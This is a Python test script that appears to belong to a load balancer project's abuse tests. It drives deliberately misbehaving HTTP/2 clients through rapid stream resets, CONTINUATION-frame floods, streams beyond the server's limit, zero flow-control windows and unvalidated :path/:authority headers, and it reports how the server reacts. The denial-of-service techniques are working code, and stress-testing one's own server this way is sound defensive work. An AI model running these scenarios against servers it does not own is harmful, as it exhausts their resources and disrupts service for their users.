"""Misbehaving HTTP/2 clients for ringlb's abuse tests (the h2 package for
framing, raw frames where h2 would refuse to misbehave). Each scenario
prints one JSON line with what the server did.

  h2_attack.py rapid_reset HOST PORT N DELAY_MS [post]
  h2_attack.py get HOST PORT PATH AUTHORITY
  h2_attack.py continuation HOST PORT N
  h2_attack.py streams HOST PORT N PATH
  h2_attack.py zero_window HOST PORT N PATH HOLD_S
"""
import json
import socket
import struct
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import h2.settings
import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def connect(host, port):
    s = socket.create_connection((host, port), timeout=5)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return s


def h2conn(settings=None):
    c = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding=None))
    c.initiate_connection()
    if settings:
        c.update_settings(settings)
    return c


def request_headers(path, authority):
    return [(":method", "GET"), (":path", path), (":scheme", "http"), (":authority", authority)]


def pump_events(s, c, until, out):
    """Read frames until `until` (a time) or the connection ends; feed `out`."""
    s.settimeout(0.05)
    while time.time() < until:
        try:
            data = s.recv(65536)
        except socket.timeout:
            continue
        except OSError:
            out["closed"] = True
            return
        if not data:
            out["closed"] = True
            return
        try:
            events = c.receive_data(data)
        except h2.exceptions.ProtocolError as e:
            out["protocol_error"] = str(e)
            return
        for e in events:
            name = type(e).__name__
            out["events"][name] = out["events"].get(name, 0) + 1
            if isinstance(e, h2.events.ConnectionTerminated):
                out["goaway"] = e.error_code.name if hasattr(e.error_code, "name") else str(e.error_code)
            if isinstance(e, h2.events.StreamReset):
                key = "reset_" + (e.error_code.name if hasattr(e.error_code, "name") else str(e.error_code))
                out[key] = out.get(key, 0) + 1
            if isinstance(e, h2.events.DataReceived):
                out["data"] = out.get("data", 0) + len(e.data)
        try:
            s.sendall(c.data_to_send())
        except OSError:
            out["closed"] = True
            return


def get(host, port, path, authority):
    """One request with this :path and :authority, unvalidated; its status."""
    s = connect(host, port)
    c = h2.connection.H2Connection(h2.config.H2Configuration(
        client_side=True, header_encoding=None, validate_outbound_headers=False,
        normalize_outbound_headers=False))
    c.initiate_connection()
    sid = c.get_next_available_stream_id()
    c.send_headers(sid, [(":method", "GET"), (":path", path), (":scheme", "http"),
                         (":authority", authority)], end_stream=True)
    s.sendall(c.data_to_send())
    out = {"events": {}}
    s.settimeout(0.05)
    until = time.time() + 5
    while time.time() < until and "status" not in out:
        try:
            data = s.recv(65536)
        except socket.timeout:
            continue
        if not data:
            break
        for e in c.receive_data(data):
            if isinstance(e, h2.events.ResponseReceived):
                out["status"] = int(dict(e.headers)[b":status"])
            if isinstance(e, h2.events.StreamReset):
                out["reset"] = str(e.error_code)
        s.sendall(c.data_to_send())
    return out


def rapid_reset(host, port, n, delay_ms, with_body=False):
    s = connect(host, port)
    c = h2conn()
    s.sendall(c.data_to_send())
    out = {"events": {}, "sent": 0}
    for i in range(n):
        try:
            sid = c.get_next_available_stream_id()
            hdrs = request_headers("/slow", f"{host}:{port}")
            if with_body:
                # A POST whose body never comes: ringlb is reading it when the reset lands.
                hdrs[0] = (":method", "POST")
            c.send_headers(sid, hdrs, end_stream=not with_body)
            s.sendall(c.data_to_send())
            if delay_ms:
                pump_events(s, c, time.time() + delay_ms / 1000, out)
            c.reset_stream(sid, h2.errors.ErrorCodes.CANCEL)
            s.sendall(c.data_to_send())
            out["sent"] += 1
        except (OSError, h2.exceptions.ProtocolError):
            break
        if out.get("goaway") or out.get("closed"):
            break
    pump_events(s, c, time.time() + 3, out)
    return out


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def read_frames(s, seconds):
    """Raw frames from `s` for up to `seconds` or until it closes:
    HEADERS per stream, RST_STREAM codes, the GOAWAY code."""
    s.settimeout(0.2)
    buf = b""
    out = {"events": {}, "headers": 0}
    until = time.time() + seconds
    while time.time() < until:
        try:
            d = s.recv(65536)
        except socket.timeout:
            continue
        except OSError:
            break
        if not d:
            break
        buf += d
        while len(buf) >= 9:
            length = int.from_bytes(buf[:3], "big")
            if len(buf) < 9 + length:
                break
            kind, payload = buf[3], buf[9:9 + length]
            buf = buf[9 + length:]
            if kind == 1:
                out["headers"] += 1
            elif kind == 3 and len(payload) >= 4:
                key = "reset_" + code_name(int.from_bytes(payload[:4], "big"))
                out[key] = out.get(key, 0) + 1
            elif kind == 7 and len(payload) >= 8:
                out["goaway"] = code_name(int.from_bytes(payload[4:8], "big"))
    out["closed"] = True
    return out


def code_name(code):
    try:
        return h2.errors.ErrorCodes(code).name
    except ValueError:
        return str(code)


def continuation(host, port, n):
    s = connect(host, port)
    enc = hpack.Encoder()
    s.sendall(PREFACE + frame(4, 0, 0, b""))
    block = enc.encode(request_headers("/", f"{host}:{port}"))
    sent = 0
    try:
        s.sendall(frame(1, 0x1, 1, block))  # HEADERS, END_STREAM, no END_HEADERS
        pad = enc.encode([("x-pad", "a" * 200)], huffman=False)
        for i in range(n):
            s.sendall(frame(9, 0, 1, pad))  # CONTINUATION, no END_HEADERS
            sent += 1
    except OSError:
        pass
    out = read_frames(s, 3)
    out["sent"] = sent
    return out


def streams(host, port, n, path):
    """`n` requests at once on one connection, whatever the server's limit."""
    s = connect(host, port)
    enc = hpack.Encoder()
    s.sendall(PREFACE + frame(4, 0, 0, b""))
    sid = 1
    for i in range(n):
        block = enc.encode(request_headers(path, f"{host}:{port}"))
        s.sendall(frame(1, 0x5, sid, block))  # HEADERS, END_STREAM | END_HEADERS
        sid += 2
    # Acknowledge the server's SETTINGS so it is not left waiting.
    s.sendall(frame(4, 0x1, 0, b""))
    out = read_frames(s, 3)
    out["opened"] = n
    return out


def zero_window(host, port, n, path, hold):
    s = connect(host, port)
    c = h2conn({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0})
    s.sendall(c.data_to_send())
    out = {"events": {}}
    for i in range(n):
        sid = c.get_next_available_stream_id()
        c.send_headers(sid, request_headers(path, f"{host}:{port}"), end_stream=True)
    s.sendall(c.data_to_send())
    print(json.dumps({"ready": True}), flush=True)
    pump_events(s, c, time.time() + hold, out)
    return out


def main():
    what, host, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
    a = sys.argv[4:]
    if what == "rapid_reset":
        out = rapid_reset(host, port, int(a[0]), int(a[1]), len(a) > 2 and a[2] == "post")
    elif what == "get":
        out = get(host, port, a[0], a[1])
    elif what == "continuation":
        out = continuation(host, port, int(a[0]))
    elif what == "streams":
        out = streams(host, port, int(a[0]), a[1])
    elif what == "zero_window":
        out = zero_window(host, port, int(a[0]), a[1], float(a[2]))
    else:
        sys.exit(f"unknown scenario {what}")
    print(json.dumps(out), flush=True)


if __name__ == "__main__":
    main()
